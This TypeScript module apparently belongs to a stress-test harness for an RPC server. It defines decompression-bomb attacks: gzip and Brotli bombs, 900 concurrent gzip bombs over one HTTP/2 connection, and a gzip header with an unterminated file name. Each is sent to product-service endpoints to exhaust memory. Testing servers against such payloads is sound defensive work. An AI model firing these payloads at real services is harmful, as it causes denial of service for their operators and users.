import { promisify } from "node:util";
import { brotliCompress, constants, gzip } from "node:zlib";
import { envelope } from "../http2-frames.ts";
import { methods } from "../methods.ts";
import { postHttp1, postHttp2 } from "../post.ts";
import { type Attack, type Outcome, type Target, tally } from "../target.ts";

const MiB = 1024 * 1024;
const bombBytes = 256 * MiB;
const bombs = 20;

/** The size of one decompressed message, below the limit. All messages of the attack together exceed the memory. */
const swarmBytes = 3.9 * MiB;
const swarm = 900;

/** The compressed size is below the limit of the methods, because a larger message is not decompressed. */
const gzipBombBytes = 12 * MiB;

/** Messages that decompress to 12 MiB. */
export const gzipBomb: Attack = async (target) =>
  explode(target, "gzip", await promisify(gzip)(Buffer.alloc(gzipBombBytes), { level: 9 }));

/** Messages that decompress to 256 MiB with Brotli, which compresses them to about 200 bytes. */
export const brotliBomb: Attack = async (target) => {
  const params = { [constants.BROTLI_PARAM_QUALITY]: 3 };
  return explode(target, "br", await promisify(brotliCompress)(Buffer.alloc(bombBytes), { params }));
};

/** 900 concurrent calls on one connection, each with 4 KB that decompress to almost the message limit. */
export const concurrentBombs: Attack = async (target) => {
  const body = await promisify(gzip)(Buffer.alloc(swarmBytes, " "));
  const post = { path: methods.getProduct, contentType: "application/json", body };
  return tally(await postHttp2(target, { ...post, headers: { "content-encoding": "gzip" } }, swarm));
};

/** A gzip header whose file name does not end, as large as the method accepts. */
export const endlessGzipHeader: Attack = async (target) => {
  const header = Buffer.from([0x1f, 0x8b, 8, 8, 0, 0, 0, 0, 0, 3]);
  const body = Buffer.concat([header, Buffer.alloc(16_000, "a")]);
  const post = { path: methods.getProduct, contentType: "application/proto", body };
  const small = { ...post, headers: { "content-encoding": "gzip" } };
  // Too large for synchronous decompression.
  const large = { ...small, path: methods.createProduct, body: Buffer.concat([body, Buffer.alloc(300_000, "a")]) };
  return tally([...(await postHttp2(target, small)), ...(await postHttp1(target, large))]);
};

async function explode(target: Target, encoding: string, packed: Buffer): Promise<Outcome> {
  const inEnvelope = {
    path: methods.listProducts,
    contentType: "application/grpc",
    body: envelope(1, packed),
    headers: { "grpc-encoding": encoding },
  };
  const plain = {
    path: methods.getProduct,
    contentType: "application/proto",
    body: packed,
    headers: { "content-encoding": encoding },
  };
  const answers = await Promise.all([
    postHttp2(target, inEnvelope, bombs),
    postHttp2(target, plain, bombs),
    postHttp1(target, plain, bombs),
  ]);
  return tally(answers.flat());
}
